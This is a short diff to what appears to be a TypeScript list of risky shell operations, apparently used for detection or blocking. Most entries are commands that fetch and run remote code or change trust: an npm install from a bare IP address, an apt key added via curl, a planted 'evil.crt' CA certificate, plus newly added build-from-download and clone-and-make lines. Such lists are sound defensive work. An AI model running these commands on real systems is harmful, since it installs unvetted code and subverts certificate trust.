@@ -106,4 +106,7 @@ export const shellOperations: readonly string[] = [
   'npm install http://203.0.113.9/p.tgz',
   'apt-key add <(curl -s http://203.0.113.9/k)',
   'update-ca-certificates; cp evil.crt /usr/local/share/ca-certificates/',
+  // What was fetched a moment ago is run before anybody has read it.
+  '#!/bin/bash\nVERSION=1.4.2\ncurl -fsSLO "https://github.com/org/tool/releases/download/v${VERSION}/tool-${VERSION}.tar.gz"\ntar xzf "tool-${VERSION}.tar.gz"\ncd "tool-${VERSION}"\n./configure --prefix="$HOME/.local"\nmake -j"$(nproc)"\nmake install',
+  'git clone --depth 1 https://github.com/org/repo.git && cd repo && make',
 ]
